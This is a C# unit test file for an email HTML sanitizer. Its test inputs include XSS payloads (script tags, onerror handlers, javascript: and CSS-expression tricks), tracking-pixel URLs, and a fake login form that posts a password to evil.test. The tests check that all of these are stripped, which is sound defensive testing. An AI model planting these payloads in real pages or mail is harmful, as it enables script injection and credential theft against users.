using InboxServerless.Azure.Email;

namespace InboxServerless.Azure.Tests.Email;

/// <summary>What a sender's HTML may and may not bring into an agent's browser.</summary>
public sealed class EmailHtmlTests
{
    [Theory]
    [InlineData("<p>Hi</p><script>alert(1)</script>", "script")]
    [InlineData("<p>Hi</p><img src=\"x\" onerror=\"alert(1)\">", "onerror")]
    [InlineData("<p onclick=\"steal()\">Hi</p>", "onclick")]
    [InlineData("<a href=\"javascript:alert(1)\">Hi</a>", "javascript")]
    [InlineData("<a href=\"JaVaScRiPt&colon;alert(1)\">Hi</a>", "alert")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">Hi</a>", "vbscript")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Hi</a>", "data:")]
    [InlineData("<form action=\"https://evil.test/collect\" method=\"post\"><input name=\"password\"><button>Log in</button></form>", "evil.test")]
    [InlineData("<p>Hi</p><textarea>x</textarea><select><option>a</option></select>", "<textarea")]
    [InlineData("<p style=\"width: expression(alert(1))\">Hi</p>", "expression")]
    [InlineData("<p style=\"background-image: url(javascript:alert(1))\">Hi</p>", "javascript")]
    [InlineData("<div style=\"position: fixed; top: 0; left: 0\">Log in again</div>", "position")]
    [InlineData("<p style=\"width: \\65 xpression(alert(1))\">Hi</p>", "xpression")]
    [InlineData("<p style=\"color: red; background: u/**/rl(https://tracker.test/pixel)\">Hi</p>", "tracker")]
    [InlineData("<p style=\"background: url(https://tracker.test/pixel)\">Hi</p>", "tracker")]
    [InlineData("<p style=\"-moz-binding: url(https://evil.test/x.xml#x)\">Hi</p>", "evil")]
    [InlineData("<p x-inbox-checked-style=\"background: url(https://tracker.test/pixel)\">Hi</p>", "tracker")]
    [InlineData("<p style=\"x-inbox-checked-style: 1\" x-inbox-checked-style=\"background: url(https://tracker.test/pixel)\">Hi</p>", "tracker")]
    [InlineData("<style>p { background: url(https://tracker.test/pixel) }</style><p>Hi</p>", "tracker")]
    [InlineData("<iframe src=\"https://evil.test\"></iframe><p>Hi</p>", "iframe")]
    [InlineData("<object data=\"https://evil.test/x.swf\"></object><p>Hi</p>", "object")]
    [InlineData("<svg><script>alert(1)</script></svg><p>Hi</p>", "script")]
    public void Nothing_that_runs_posts_or_covers_the_page_survives(string html, string gone)
    {
        var clean = EmailHtml.Sanitize(html);

        Assert.NotNull(clean);
        Assert.DoesNotContain(gone, clean, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void A_document_keeps_its_body_and_loses_its_base_refresh_and_scripts()
    {
        const string html = """
            <!DOCTYPE html><html><head>
            <meta http-equiv="refresh" content="0; url=https://evil.test/">
            <base href="https://evil.test/">
            <script src="https://evil.test/x.js"></script>
            </head><body><p>Your order <a href="orders/42">#42</a> shipped.</p></body></html>
            """;

        var clean = EmailHtml.Sanitize(html)!;

        Assert.Contains("<html>", clean, StringComparison.Ordinal);
        Assert.Contains("<body>", clean, StringComparison.Ordinal);
        Assert.Contains("shipped.", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<meta", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<base", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void A_fragment_stays_a_fragment()
    {
        var clean = EmailHtml.Sanitize("<p>Bonjour, le café était <b>froid</b>.</p>");

        Assert.Equal("<p>Bonjour, le café était <b>froid</b>.</p>", clean);
    }

    [Fact]
    public void Inline_images_mail_links_and_web_links_are_kept()
    {
        var clean = EmailHtml.Sanitize(
            "<p><img src=\"cid:logo@contoso.test\" alt=\"logo\"> <a href=\"mailto:jose@customer.test\">Jose</a> " +
            "<a href=\"https://contoso.test/help\">help</a></p>")!;

        Assert.Contains("src=\"cid:logo@contoso.test\"", clean, StringComparison.Ordinal);
        Assert.Contains("href=\"mailto:jose@customer.test\"", clean, StringComparison.Ordinal);
        Assert.Contains("href=\"https://contoso.test/help\"", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void The_styles_mail_is_laid_out_with_are_kept()
    {
        var clean = EmailHtml.Sanitize(
            "<table style=\"border-collapse: collapse; width: 600px\"><tr><td style=\"color: #333; padding: 8px; font-family: Arial\">Hi</td></tr></table>")!;

        Assert.Contains("border-collapse: collapse", clean, StringComparison.Ordinal);
        Assert.Contains("padding: 8px", clean, StringComparison.Ordinal);
        Assert.Contains("font-family: Arial", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Of_a_style_only_the_plain_declarations_of_mail_properties_are_kept() =>
        Assert.Equal(
            "color: rgb(51, 51, 51); font-family: \"Segoe UI\", Arial; margin: 0 0 8px 0",
            EmailHtml.CleanStyle("COLOR: rgb(51, 51, 51); position: absolute; font-family: \"Segoe UI\", Arial; " +
                "background: url(x); margin: 0 0 8px 0; width: calc(100% - 2px); color: rgb(1, 2, 3) rgb(4, 5, 6; ;garbage"));

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("   ")]
    public void No_html_is_no_html(string? html) => Assert.Null(EmailHtml.Sanitize(html));

    [Fact]
    public void Html_larger_than_a_stored_message_may_be_is_not_kept() =>
        Assert.Null(EmailHtml.Sanitize("<p>" + new string('a', EmailHtml.MaxChars) + "</p>"));
}
